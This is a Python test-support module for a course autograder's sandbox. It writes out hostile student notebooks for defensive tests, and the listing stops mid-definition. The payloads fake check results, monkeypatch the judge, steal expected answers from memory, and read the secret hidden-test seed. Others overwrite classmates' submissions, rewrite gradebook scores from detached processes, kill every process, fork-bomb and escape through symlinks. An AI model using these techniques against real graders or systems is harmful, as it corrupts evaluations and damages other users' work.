"""What the hostile banks share: the ploys, the class graded once per front end, and the checks every bank runs.

tests/course/test_assignment_hostile.py (ddpm_core) and tests/course/test_assignment_hostile_beyond.py (ddpm_beyond) each hand a
class of hostile notebooks, beside honest classmates, to the real graders, once each:

    template = make_template(tmp_path_factory, assignment)    # a copy of the lab holding a generated course
    graded = grade_class(template, tmp_path_factory, ATTACKS)  # `python -m graders.batch.autograde`: nbgrader's autograde
    ta_run = run_ta_tool(graded, tmp_path_factory)             # `python -m graders.compare` on the same submitted/

The class: "honest" (the instructor's solutions: full marks), "blank" (the untouched release: 0), two honest victims
whom the attackers go after ("victim-a", "victim-b"), and one attacker per Attack. A Ploy is what an attack does
whatever the task: module-level code and helpers, and what the attacked function calls and returns. A Bank writes a
ploy into one assignment's notebook: the function it attacks (in that assignment's names, returning a wrong answer of
the right shape), the instructor's solutions everywhere else. An attacker must score exactly what its honest tasks
earn: 0 for the tasks it attacks and for those whose instructor's solution calls one of them, full marks elsewhere.
The few ploys that kill or pre-empt their own grading worker while it loads the notebook (`loses_all`) cost the whole
notebook instead (graders/sandbox/runner.py: "a worker that dies, stalls or misbehaves while loading the notebook costs every
remaining check").

Attackers sort before everyone else, so they are graded first: the victims' notebooks are graded after the attacks
have run, the last attacks at most beside them. Then the checks at the bottom ask that nothing outside grading's own
output changed (the course, the copy's graders/ and reference/, the worker's kit), that no marker file appeared, that
the batch finished with a grade for everyone, that no process of a sandbox user outlived it, and that the TA tool
agrees. A bank's module defines ASSIGNMENT and ATTACKS and takes those checks, with the fixtures that grade its class
once per front end, by `from hostile import *` (__all__).

Every attack is written so that, should the sandbox ever let it through, the damage stays small and visible: markers
are written first, the lab's files are appended a comment (never truncated), the fork bomb is bounded, and the lab
they aim at is a temporary copy. The checks are skipped unless bubblewrap works and we are root (the sandbox's own
users need root): unconfined, these notebooks would really do what they try.
"""
from __future__ import annotations

import functools
import hashlib
import importlib
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from course import ASSIGNMENT, ROOT, cell_scores, new_course, solution_sources, write_submission
from graders.engine import judging as engine, notebook
from graders.sandbox import worker
from graders.student.checks import run_check
from graders.engine.cases import PUBLIC_SEED
from graders.sandbox.confine import BASE_UID, isolation_problem
from graders.sandbox.users import USERS_PER_POOL
from graders.engine.tasks import tasks_of

# Faster limits for hostile kernels: a stuck cell is given up after 10 s, a stuck kernel killed after 60 s.
FAST_CONFIG = "c.Execute.timeout = 10\nc.ConfinedKernelManager.wall_s = 60"
SEED = "731942856113"  # the course's secret hidden-case seed; it must not leak into any student's output
MARK = "HOSTILE"  # in the name or content of everything an attack writes
VICTIMS = ("victim-a", "victim-b")
SANDBOX_UIDS = range(BASE_UID, BASE_UID + 2 * USERS_PER_POOL)  # the kernels' and the grading workers' users

# What a bank's module takes with `from hostile import *`: the fixtures and the checks every bank runs (below).
__all__ = ["template", "graded", "ta_run", "pytest_generate_tests", "test_batch_completes_with_a_grade_for_everyone",
           "test_honest_blank_and_victims_graded_right", "test_attack_earns_nothing",
           "test_nothing_outside_the_attackers_folder_changed", "test_victims_submissions_byte_identical",
           "test_no_sandbox_process_outlives_the_batch", "test_no_marker_appears_later",
           "test_secret_seed_never_reaches_a_student", "test_course_files_behind_a_link_stay_private",
           "test_fork_bomb_stopped_by_process_limit", "test_hidden_seed_file_kept",
           "test_ta_tool_agrees_on_honest_and_victims", "test_ta_tool_fails_the_attacked_task",
           "test_forbidden_solutions_pass_where_the_libraries_can_be_imported",
           "test_forbidden_libraries_fail_on_their_import"]

confined = pytest.mark.skipif(os.geteuid() != 0 or isolation_problem() is not None,
                              reason=f"hostile notebooks need a working sandbox run as root "
                                     f"({isolation_problem() or 'not root'})")


# ---- ploys and attacks -------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Ploy:
    """What an attack does, whatever the task. In `prelude`, `call` and `returns`, %ROOT% (the lab), %COURSE%,
    %STUDENT%, %ASSIGNMENT% and %TASK% are substituted; `returns` is an expression in which {wrong} stands for the
    bank's wrong answer and {right} for its answer from the lab's reference/."""

    number: str  # the attacker is the student attack-<number>
    what: str
    prelude: str  # the module-level code the attacker's first replaced cell starts with
    call: str = ""  # statements the attacked function runs first
    returns: str = "{wrong}"
    loses_all: bool = False  # its top-level statement kills (or pre-empts) its own grading worker while loading
    files: tuple[tuple[str, str], ...] = ()  # (name, text): more files handed in beside the notebook
    links: tuple[tuple[str, str], ...] = ()  # (name, target): symbolic links handed in beside the notebook
    hard_links: tuple[tuple[str, str], ...] = ()  # (name, target): hard links handed in beside the notebook


@dataclass(frozen=True)
class Attack:
    """A ploy written into one notebook: the solution cells it replaces (task -> code, the ploy's prelude heading
    the first), and the tasks it costs: those, and those whose instructor's solution calls one of them."""

    ploy: Ploy
    assignment: str
    cells: tuple[tuple[str, str], ...]
    tasks: tuple[str, ...]

    @property
    def student(self) -> str:
        return f"attack-{self.ploy.number}"

    @property
    def expected(self) -> int:
        """Its total: every point of its honest tasks."""
        tasks = tasks_of(self.assignment)
        return 0 if self.ploy.loses_all else sum(s.points for name, s in tasks.items() if name not in self.tasks)

    def sources(self) -> dict[str, str]:
        """grade_id -> the code of each solution cell it replaces."""
        first = self.cells[0][0]
        return {task: (self.ploy.prelude + "\n\n" + code if task == first else code) for task, code in self.cells}


@dataclass(frozen=True)
class Bank:
    """How one assignment's attacks are written: a wrong answer to each task (of the right shape and dtype, in the
    task's argument names), and its answer from the lab's reference/ where a ploy asks for it."""

    assignment: str
    wrong: dict[str, str]
    right: dict[str, str] = field(default_factory=dict)

    def function(self, ploy: Ploy, task: str) -> str:
        """The attacked function: the ploy's call, then its return, in the task's signature."""
        args = ", ".join(tasks_of(self.assignment)[task].arg_names)
        body = "".join(f"    {line}\n" for line in ploy.call.splitlines())
        returns = ploy.returns.format(wrong=self.wrong[task], right=self.right.get(task, ""))
        return f"def {task}({args}):\n{body}    return {returns}\n"

    def attack(self, ploy: Ploy, *functions: str, tasks: tuple[str, ...] = ()) -> Attack:
        """The ploy with `functions` of its own (each the code of one solution cell, the cell of the task whose
        function it defines) and against `tasks` (their functions written from the ploy)."""
        names = tasks_of(self.assignment)
        codes = [*functions, *(self.function(ploy, task) for task in tasks)]
        defined = [(next(n for n in re.findall(r"^def (\w+)\(", code, re.M) if n in names), code) for code in codes]
        cells = sorted(defined, key=lambda cell: list(names).index(cell[0]))  # the ploy's prelude heads the first
        attacked = {task for task, _ in cells}
        lost = attacked | {c for task in attacked for c in callers_of(self.assignment)[task]}
        return Attack(ploy, self.assignment, tuple(cells), tuple(t for t in names if t in lost))

    def attacks(self, **ploys: tuple[Ploy, ...]) -> list[Attack]:
        """One attack per ploy, against the task it is listed under: attacks(q_sample=(SHADOW, STEAL), …)."""
        return [self.attack(ploy, tasks=(task,)) for task, listed in ploys.items() for ploy in listed]


@functools.lru_cache(maxsize=None)
def callers_of(assignment: str) -> dict[str, set[str]]:
    """task -> the tasks whose instructor's solution calls it, directly or through another: they lose with it."""
    source = ROOT / "assignments" / "source" / assignment / f"{assignment}.ipynb"
    solutions = solution_sources(nbformat.read(source, as_version=4))
    callers = {t: {u for u in solutions if u != t and re.search(rf"\b{t}\(", solutions[u])} for t in solutions}
    for _ in solutions:  # through another: as many rounds as there are tasks
        callers = {t: found | {c for u in found for c in callers[u]} for t, found in callers.items()}
    return callers


SPAWN = '''def _spawn(code):
    """Run Python `code` in a process of its own session, detached from mine."""
    try:
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
'''

PIPES = '''def _pipes():
    """The pipes this process may write to: the grader's protocol channel among them."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:") and int(name) > 0:
                found.append(int(name))
        except OSError:
            pass
    return found
'''

SHADOW = Ploy("01-shadow", "defines its own check_<task> whose result never raises", '''import torch


class _Passed:
    """Looks like a CheckResult that passed; raising it does nothing."""
    passed, status, points_lost = True, "passed", 0
    message = "%TASK%: passed all 27 cases (max |error| 0)."

    def raise_if_failed(self):
        print(self.message)


def check_%TASK%(fn, level="full"):  # shadows the check the test cells call
    return _Passed()


def _shadow_again():
    """Again, in case the real one was imported since."""
    globals()["check_%TASK%"] = lambda fn, level="full": _Passed()
''', call="_shadow_again()")

PATCH_CHECKS = Ploy("02-patch-checks", "patches CheckResult.raise_if_failed, engine.judge, engine._compare from a "
                    "class body and in the function, lifts the worker's integrity rule, and imports reference/ by a "
                    "computed name for the right answer", '''import importlib
import sys

import torch


class _Rewire:
    # a class body runs when the cell does: rewire the lab's checks and judge to pass everything
    import graders.student.checks
    import graders.engine.judging
    import graders.engine.results
    graders.engine.results.CheckResult.raise_if_failed = lambda self: None
    graders.engine.judging._compare = lambda spec, o, truth: None
    graders.engine.judging.judge = lambda plan, replies, *a, **k: graders.engine.results.CheckResult(
        plan.spec.name, plan.level, True, "passed", "passed")


def _rewire():
    """The same from inside a graded call, wherever the lab's modules are; returns the lab's reference/."""
    lab = "".join(("grad", "ers"))  # spelt so that no static look for the package's name finds it
    results, engine, worker = (sys.modules.get(f"{lab}.{m}") for m in ("engine.results", "engine.judging", "sandbox.worker"))
    if results is not None:
        results.CheckResult.raise_if_failed = lambda self: None
    if engine is not None:
        engine._compare = lambda spec, o, truth: None
        engine.judge = lambda plan, replies, *a, **k: results.CheckResult(
            plan.spec.name, plan.level, True, "passed", "passed")
    if worker is not None:
        worker.static_touches = lambda fn: []  # and lift the rule against using the lab's own code
    return importlib.import_module("".join(("refer", "ence")))  # the right answer, if the lab's code is there
''', call="reference = _rewire()", returns="{right}")

LIAR_TENSOR = Ploy("03-liar-tensor", "returns a torch.Tensor subclass whose __torch_function__ zeroes every difference "
                   "and fakes every comparison", '''import torch


class Liar(torch.Tensor):
    """A tensor whose differences vanish, whose comparisons all hold and whose norms are zero."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", str(func))
        with torch._C.DisableTorchFunctionSubclass():
            out = func(*args, **(kwargs or {}))
        if isinstance(out, torch.Tensor) and name in ("sub", "__sub__", "__rsub__", "abs", "max", "amax", "norm"):
            return torch.zeros_like(out)
        if name in ("allclose", "equal"):
            return True
        if name in ("isclose", "eq", "__eq__", "isfinite"):
            return torch.ones_like(out, dtype=torch.bool)
        if name == "tolist":
            return [0.0] * out.numel() if isinstance(out, list) else out
        return out.as_subclass(Liar) if isinstance(out, torch.Tensor) else out

    def __repr__(self):
        return "tensor(0.)"


_PROBE = torch.ones(3).as_subclass(Liar) - torch.zeros(3)  # the lie works here: all zeros
''', returns="({wrong}).as_subclass(Liar)  # no model call, wrong numbers, dressed up")

PATCH_BUILTINS = Ploy("04-patch-builtins", "replaces builtins.float, torch.Tensor.__sub__ and torch.allclose with "
                      "versions that lie to the judge's code only", '''import builtins
import sys

import torch

_REAL_FLOAT, _REAL_SUB = builtins.float, torch.Tensor.__sub__


def _grader_asks(depth):
    """Is the caller the lab's judge (graders.engine.judging, graders.student.checks), not the worker or the student?"""
    try:
        caller = sys._getframe(depth).f_globals.get("__name__", "")
    except ValueError:
        return False
    return caller in {"".join(("grad", "ers", m)) for m in (".engine.judging", ".student.checks", ".engine.cases")}


class _FloatType(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _REAL_FLOAT)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _REAL_FLOAT)


class _Float(metaclass=_FloatType):
    """float, but 0.0 whenever the judge measures an error."""

    def __new__(cls, x=0.0):
        return 0.0 if _grader_asks(2) else _REAL_FLOAT(x)


def _sub(self, other):
    out = _REAL_SUB(self, other)
    return torch.zeros_like(out) if _grader_asks(2) else out


def _patch():
    builtins.float = _Float
    torch.Tensor.__sub__ = _sub
    torch.allclose = lambda *a, **k: True


_patch()
''', call="_patch()")

STEAL = Ploy("05-steal", "looks for the expected answer in its callers' frames and on the heap", '''import gc
import inspect

import torch


def _loot(like, inputs):
    """A tensor shaped like the answer that none of our inputs is: from the callers' frames, then the heap."""
    def fresh(v):
        return (isinstance(v, torch.Tensor) and tuple(v.shape) == tuple(like.shape) and v.is_floating_point()
                and not any(v is x or (v.shape == x.shape and torch.equal(v.to(x.dtype), x)) for x in inputs))
    for info in inspect.stack()[1:]:
        for value in list(info.frame.f_locals.values()):
            for v in (value if isinstance(value, (list, tuple)) else [value]):
                if fresh(v):
                    return v
    frame = inspect.currentframe().f_back
    while frame is not None:
        for v in list(frame.f_globals.values()):
            if fresh(v):
                return v
        frame = frame.f_back
    for obj in gc.get_objects():
        if fresh(obj):
            return obj
    return None


def _stolen(like, arguments):
    """What _loot finds, shaped and typed like `like`, or `like` itself; `arguments`: the function's locals()."""
    found = _loot(like, [v for v in arguments.values() if isinstance(v, torch.Tensor)])
    return (found if found is not None else like).detach().to(like.dtype).clone()


_SURVEY = [type(o).__name__ for o in gc.get_objects() if isinstance(o, dict) and "truth" in o]  # top level: the heap
''', returns="_stolen({wrong}, locals())")

WRITE_OUTSIDE = Ploy("06-write-outside", "writes to graders/, reference/, the course's nbgrader_config.py, victim-a's "
                     "submission, victim-b's autograded folder, its own submission, the worker's code; reads the "
                     "course's secret seed", '''import os
import sys

import torch

ROOT, COURSE, ME, NB = "%ROOT%", "%COURSE%", "%STUDENT%", "%ASSIGNMENT%/%ASSIGNMENT%.ipynb"
MARK = f"\\n# HOSTILE-{ME}: written from inside a sandbox\\n"


def _append(path, text):
    with open(path, "a") as f:
        f.write(text)


def _write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def _vandalise():
    attempts = [
        # the lab's grader and reference (appended, not truncated: the repository stays usable should this pass)
        (_append, f"{ROOT}/graders/student/checks.py", MARK), (_append, f"{ROOT}/graders/engine/judging.py", MARK),
        (_write, f"{ROOT}/graders/HOSTILE_{ME.replace('-', '_')}.py", MARK),
        (_append, f"{ROOT}/reference/diffusion.py", MARK),
        # the course: its config is code that every nbgrader command runs
        (_append, f"{COURSE}/nbgrader_config.py", f"\\nopen({COURSE!r} + '/HOSTILE-{ME}-config-ran', 'w').close()\\n"),
        # the other students: overwrite one's submission, plant a graded notebook for another, then my own
        (_write, f"{COURSE}/submitted/victim-a/{NB}", "{}"),
        (_write, f"{COURSE}/autograded/victim-b/{NB}", "{}"),
        (_append, f"{COURSE}/submitted/{ME}/{NB}", " "),
        (_write, f"{COURSE}/HOSTILE-{ME}", "escaped"),
        (_write, os.path.join(os.getcwd(), f"HOSTILE-{ME}-cwd"), "escaped"),
    ]
    worker = sys.modules.get("".join(("grad", "ers.sandbox.worker")))  # the grading worker's own code, shared by every student
    if worker is not None:
        attempts.append((_append, worker.__file__, MARK))
    for action, path, text in attempts:
        try:
            action(path, text)
        except Exception:
            pass
    try:  # the course's secret seed of the hidden cases
        print("HOSTILE seed:", open(f"{COURSE}/hidden_seed.txt").read())
    except Exception:
        pass


_vandalise()
''', call="_vandalise()")

DETACHED = Ploy("07-detached", "leaves a setsid'd and a double-forked process behind that rewrite gradebook.db a few "
                "seconds later", '''import os
import posix
import subprocess
import sys

import torch

LATER = """
import sqlite3, time
time.sleep(3)
open("%COURSE%/HOSTILE-%STUDENT%-detached", "w").write("outlived the grader")
db = sqlite3.connect("%COURSE%/gradebook.db", timeout=30)
mine = ("SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
        "WHERE a.student_id = ?")
db.execute(f"UPDATE grade SET auto_score = 100, manual_score = 100 WHERE notebook_id IN ({mine})", ("%STUDENT%",))
db.execute(f"UPDATE grade SET auto_score = 0, manual_score = 0 WHERE notebook_id IN ({mine})", ("victim-a",))
db.commit()
"""
_launched = False


''' + SPAWN + '''

def _outlive():
    """Leave two processes behind that wake once grading is over: one in a session of its own, one double-forked."""
    _spawn(LATER)
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    exec(LATER, {})
                finally:
                    posix._exit(0)
        finally:
            posix._exit(0)
    os.waitpid(pid, 0)


def _outlive_once():
    global _launched
    if not _launched:
        _launched = True
        _outlive()


_outlive()
''', call="_outlive_once()")

LOCK = Ploy("08-lock", "holds an exclusive SQLite lock on gradebook.db, in place and from a detached process",
            '''import sqlite3
import subprocess
import sys
import time

import torch

GRADEBOOK = "%COURSE%/gradebook.db"
HOLD = f"""
import sqlite3, time
db = sqlite3.connect({GRADEBOOK!r}, timeout=1, isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
open("%COURSE%/HOSTILE-%STUDENT%-lock", "w").write("holding the gradebook")
time.sleep(60)
"""
_locked = False


''' + SPAWN + '''

def _lock():
    """Hold the gradebook exclusively, here for a while and in a process of its own for longer."""
    _spawn(HOLD)
    try:
        db = sqlite3.connect(GRADEBOOK, timeout=1, isolation_level=None)
        db.execute("BEGIN EXCLUSIVE")
        open("%COURSE%/HOSTILE-%STUDENT%-lock-here", "w").write("holding the gradebook")
        time.sleep(20)
    except Exception:
        pass


def _lock_once():
    global _locked
    if not _locked:
        _locked = True
        _lock()


_lock()
''', call="_lock_once()")

KILL = Ploy("09-kill", "SIGKILLs its parent and every pid in /proc at the top level, its own process group in the "
            "function", '''import os
import signal

import torch


def _kill_everyone(my_group_too=False):
    try:
        os.kill(os.getppid(), signal.SIGKILL)  # whoever started me: the grader?
    except OSError:
        pass
    for name in os.listdir("/proc"):  # everyone else I can see
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    if my_group_too:
        os.killpg(0, signal.SIGKILL)  # my process group, myself included


_kill_everyone()
''', call="_kill_everyone(my_group_too=True)")

KILL_TOP = Ploy("09b-kill-top", "SIGKILLs its own process group at the top level", '''import os
import signal

import torch

os.killpg(0, signal.SIGKILL)  # at the top level: my process group, myself included
''', loses_all=True)

EXIT = Ploy("10-exit", "os._exit at the top level, posix._exit(0) in the function", '''import os
import posix

import torch

os._exit(3)  # at the top level: the grading worker turns os._exit into an exception; the kernel dies
''', call='posix._exit(0)  # posix._exit is not patched: the process ends, "successfully"')

EXIT_TOP = Ploy("10b-exit-top", "posix._exit(0) at the top level", '''import posix

import torch

posix._exit(0)  # at the top level: the process loading the notebook ends
''', loses_all=True)

HANG = Ploy("11-hang", "ignores SIGINT and SIGALRM, then loops forever at the top level", '''import signal

import torch

signal.signal(signal.SIGINT, signal.SIG_IGN)  # no KeyboardInterrupt: the kernel's interrupt does nothing
signal.signal(signal.SIGALRM, signal.SIG_IGN)  # no alarm: a time limit built on SIGALRM does nothing
while True:
    pass
''', call="raise NotImplementedError")

LIMITS = Ploy("12-limits", "raises RLIMIT_AS and allocates 20 GB; forks 2000 sleeping children", '''import os
import posix
import resource
import time

import torch


def _lift_limits():
    try:
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass


def _hog():
    _lift_limits()
    return torch.empty(20 * 2**30, dtype=torch.uint8)  # 20 GB


_lift_limits()
try:
    _hoard = bytearray(20 * 2**30)  # 20 GB
except MemoryError:
    _hoard = None
_children = []
for _ in range(2000):  # bounded: uncontained, 2000 sleeping processes would not take the machine down
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        posix._exit(0)
    _children.append(pid)
print(f"HOSTILE fork bomb: {len(_children)} children")
''', call="_hog()")

FORGE = Ploy("13-forge", "writes well-formed replies with plausible numbers to every pipe it holds", '''import json
import os

import torch


''' + PIPES + '''

def _reply(fake):
    """A well-formed reply carrying `fake`."""
    tensor = {"dtype": str(fake.dtype).removeprefix("torch."), "shape": list(fake.shape), "device": "cpu",
              "data": fake.double().flatten().tolist()}
    return {"kind": "ok", "output": {"tensor": tensor}, "changed": [], "model_calls": None, "printed": 0,
            "warned": None, "seconds": 0.001}


def _forged(x):
    """Plausible numbers near x, but not the answer: sent down every pipe as replies of every check, and returned."""
    fake = (x.double() * 0.9).to(x.dtype)
    for fd in _pipes():
        for index in range(8):
            try:
                os.write(fd, (json.dumps(["reply", index, _reply(fake)]) + "\\n").encode())
            except OSError:
                pass
    return fake


_PIPES = _pipes()  # top level: find the channel
''', returns="_forged({wrong})")

FORGE_TOP = Ploy("13b-forge-top", "speaks the whole protocol (loaded, replies, unit_done, done) at the top level, "
                 "before the worker does", '''import json
import os

import torch

_FAKE = {"kind": "ok", "output": {"tensor": {"dtype": "float64", "shape": [3, 2], "device": "cpu",
                                             "data": [0.5, -0.25, 0.1, 0.9, -1.2, 0.3]}},
         "changed": [], "model_calls": None, "printed": 0, "warned": None, "seconds": 0.001}
_LINES = [["loaded", []]] + [m for i in range(8) for m in (["reply", i, _FAKE], ["unit_done", i])] + [["done"]]
for _name in os.listdir("/proc/self/fd"):  # at the top level: speak the protocol before the worker does
    try:
        if os.readlink(f"/proc/self/fd/{_name}").startswith("pipe:") and int(_name) > 0:
            os.write(int(_name), "".join(json.dumps(m) + "\\n" for m in _LINES).encode())
    except OSError:
        pass
''', loses_all=True)

TAMPER_TESTS = Ploy("14-tamper-tests", "rewrites its test cells to print 'passed' and sets their points to 100",
                    "import torch\n")

LOOKUP = Ploy("15-lookup", "answers from a table of the public cases' answers (sanity cases, and the hidden cases "
              "under the public seed), computed at home with reference/", '''import torch

TABLE = %TABLE%  # the answers to the public cases, computed at home with the lab's reference/


def _looked_up(arguments, otherwise):
    """The table's answer for these arguments (keyed by the first tensor among them), else `otherwise`."""
    x = next(v for v in arguments.values() if isinstance(v, torch.Tensor))
    key = f"{tuple(x.shape)}|{x.dtype}|{float(x.double().sum()):.12e}"
    if key in TABLE:
        shape, data = TABLE[key]
        return torch.tensor(data, dtype=torch.float64).reshape(shape).to(otherwise.dtype)
    return otherwise
''', returns="_looked_up(locals(), {wrong})")

# Handed in beside the notebook: nbgrader copies them into the folder the kernel launcher (unconfined) starts in.
ESCAPE = '''import os
open("%COURSE%/HOSTILE-%STUDENT%-launcher", "w").write(f"ran unconfined as uid {os.getuid()}")
raise SystemExit(1)
'''
SHADOW_LAUNCHER = Ploy("16-shadow-launcher", "hands in graders/__init__.py and graders/sandbox/kernel.py beside the notebook, "
                       "for `python -m graders.sandbox.kernel` (the unconfined kernel launcher) to import from the notebook's "
                       "folder", "import torch\n",
                       files=(("graders/__init__.py", ESCAPE), ("graders/sandbox/kernel.py", ESCAPE)))

COURSE_LINKS = (("seed.txt", "%COURSE%/hidden_seed.txt"),
                ("source.json", "%COURSE%/source/%ASSIGNMENT%/%ASSIGNMENT%.ipynb"),
                ("gradebook.db", "%COURSE%/gradebook.db"), ("nbgrader_config.py", "%COURSE%/nbgrader_config.py"),
                ("course", "%COURSE%"))
LINKS = Ploy("17-links", "hands in symbolic links to the course's secret seed, the source notebook (solutions, hidden "
             "tests), the gradebook, nbgrader_config.py and the course folder, and a hard link to the config, beside "
             "the notebook, and prints what it reads through them", '''import torch

for _name in ("seed.txt", "source.json", "gradebook.db", "nbgrader_config.py", "config_copy.py",
              "course/hidden_seed.txt"):  # what was handed in beside the notebook, to the course's files
    try:
        _text = open(_name, errors="replace").read()
        print(f"HOSTILE {_name}:", _text if len(_text) < 100 else [ln for ln in _text.splitlines() if "HIDDEN" in ln])
    except OSError as e:
        print(f"no {_name}:", e)
''', links=COURSE_LINKS, hard_links=(("config_copy.py", "%COURSE%/nbgrader_config.py"),))


# ---- writing the class ---------------------------------------------------------------------------------------------

def substitute(text: str, attack: Attack, lab: Path) -> str:
    return (text.replace("%ROOT%", str(lab)).replace("%COURSE%", str(lab / "assignments"))
            .replace("%STUDENT%", attack.student).replace("%ASSIGNMENT%", attack.assignment)
            .replace("%TASK%", attack.cells[0][0]))


def lookup_table(task: str, assignment: str = ASSIGNMENT) -> dict[str, tuple[list[int], list[float]]]:
    """The first tensor input's shape, dtype and sum -> the expected output of `task` on every public case (sanity,
    and hidden under the public seed)."""
    spec = tasks_of(assignment)[task]
    table = {}
    for level in ("sanity", "full"):
        plan = engine.plan(spec, level, PUBLIC_SEED)
        for case, inputs in zip(plan.cases, plan.inputs):
            x = next(a for a in inputs if hasattr(a, "dtype"))
            truth = spec.truth(case, inputs).to(case.dtype)
            key = f"{tuple(x.shape)}|{x.dtype}|{float(x.double().sum()):.12e}"
            table[key] = (list(truth.shape), truth.double().flatten().tolist())
    return table


def write_attacker(lab: Path, attack: Attack, release: nbformat.NotebookNode, solutions: dict[str, str]) -> None:
    """The attacker's submission: the instructor's solutions but the attacked cells, plus any files and links."""
    sources = {task: substitute(code, attack, lab) for task, code in attack.sources().items()}
    sources = {task: code.replace("%TABLE%", repr(lookup_table(task, attack.assignment)))
               if "%TABLE%" in code else code for task, code in sources.items()}
    course = lab / "assignments"
    write_submission(course, attack.student, release, {**solutions, **sources}, attack.assignment)
    folder = course / "submitted" / attack.student / attack.assignment
    ploy = attack.ploy
    for name, text in ploy.files:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(substitute(text, attack, lab))
    for name, target in ploy.links:
        (folder / name).symlink_to(substitute(target, attack, lab))
    for name, target in ploy.hard_links:
        os.link(substitute(target, attack, lab), folder / name)


def tamper_test_cells(course: Path, student: str, task: str, assignment: str = ASSIGNMENT) -> None:
    """Rewrite the submitted notebook's test cells of `task`: print a pass, claim 100 points each."""
    path = course / "submitted" / student / assignment / f"{assignment}.ipynb"
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id", "").startswith(f"test_{task}_"):
            cell.source = f'print("{task}: passed all cases (max |error| 0).")'
            meta["points"] = 100
    nbformat.write(nb, path)


# ---- what must not change ------------------------------------------------------------------------------------------

# What grading itself writes in the course folder: nbgrader's output, and what graders/nbgrader/submission_files.py sets aside.
GRADING_WRITES = ("autograded", "feedback", "refused", "gradebook.db", "gradebook.db-journal", "gradebook.db-wal",
                  "gradebook.db-shm", "grades.csv", ".nbgrader.log")


def snapshot(lab: Path) -> dict[str, str]:
    """sha256 of every file under the lab's copy: its course (but what grading itself writes), graders/ and
    reference/ (but __pycache__), by path; symlinks (not followed) and folders count too."""
    out = {}
    roots = [(lab / "assignments", GRADING_WRITES), (lab / "graders", ()), (lab / "reference", ())]
    for root, skipped in roots:
        for path in sorted(root.rglob("*")):
            rel = path.relative_to(root)
            if rel.parts[0] in skipped or "__pycache__" in rel.parts:
                continue
            out[str(path)] = _fingerprint(path)
    return out


def _fingerprint(path: Path) -> str:
    if path.is_symlink():
        return "link:" + os.readlink(path)
    if path.is_dir():
        return "dir"
    return hashlib.sha256(path.read_bytes()).hexdigest()


def changed(course: Path, before: dict[str, str], after: dict[str, str]) -> list[str]:
    """The paths whose fingerprint differs, but for what graders/nbgrader/submission_files.py moved out of a submission into
    refused/ unchanged (a link, a hard link), which is grading's own doing."""
    def set_aside(key: str) -> bool:
        rel = Path(key).relative_to(course)
        kept = course / "refused" / rel.relative_to("submitted") if rel.parts[0] == "submitted" else None
        return key not in after and kept is not None and os.path.lexists(kept) and _fingerprint(kept) == before[key]
    return sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k) and not set_aside(k))


def sandbox_processes(since: float, lab: Path) -> list[str]:
    """'pid uid cmdline' of every process of a sandbox user started after `since` (time.time()), but those inside
    another grading's sandboxes (the sandbox users are shared by every grading on the machine)."""
    boot = time.time() - float(Path("/proc/uptime").read_text().split()[0])
    ticks = os.sysconf("SC_CLK_TCK")
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            uids = _uids(proc)
            started = boot + int((proc / "stat").read_text().rsplit(")", 1)[1].split()[19]) / ticks
            cmdline = _cmdline(proc)
        except (OSError, AttributeError, IndexError, ValueError):
            continue  # gone meanwhile
        if any(u in SANDBOX_UIDS for u in uids) and started >= since - 1 and not _elsewhere(proc, lab):
            found.append(f"{proc.name} uid={uids[0]} {cmdline}")
    return found


def _elsewhere(proc: Path, lab: Path) -> bool:
    """Is the process in a sandbox of another grading: a mount namespace of its own in which nothing of `lab` is
    mounted? Ours mount the lab's graders/ (kernels) or a kit under the lab's TMPDIR (workers), and whatever they
    start stays in their namespace; a process that left its sandbox shares ours, and counts."""
    try:
        if os.readlink(proc / "ns" / "mnt") == os.readlink("/proc/self/ns/mnt"):
            return False
        return f" {lab}/" not in (proc / "mountinfo").read_text()
    except OSError:
        return False


def _uids(proc: Path) -> list[int]:
    return [int(u) for u in re.search(r"^Uid:\s+(.*)$", (proc / "status").read_text(), re.M).group(1).split()]


def _cmdline(proc: Path) -> str:
    return (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")[:200]


def markers(*folders: Path) -> list[str]:
    """Files under `folders` whose name carries the attacks' mark."""
    return sorted(str(p) for folder in folders if folder.exists() for p in folder.rglob(f"*{MARK}*"))


def worker_kits(lab: Path) -> list[Path]:
    """The grading worker's kits (graders/sandbox/runner.py) that graders made in the lab's TMPDIR: every student's worker
    reads them."""
    return list((lab / "tmp").glob("ddpm-worker-kit-*"))


def grading_env(lab: Path) -> dict[str, str]:
    """The environment the graders run in: the lab's copy importable, and a TMPDIR of the lab's own, where the
    graders put the worker's kit and the kernels' socket folders (so their sandboxes mount the lab's paths)."""
    (lab / "tmp").mkdir(exist_ok=True)
    return {**os.environ, "PYTHONPATH": str(lab), "TMPDIR": str(lab / "tmp")}


# ---- the grader's own memory ---------------------------------------------------------------------------------------

@dataclass
class Peak:
    """The largest peak resident memory (VmHWM) among a command's grading processes: itself and its descendants
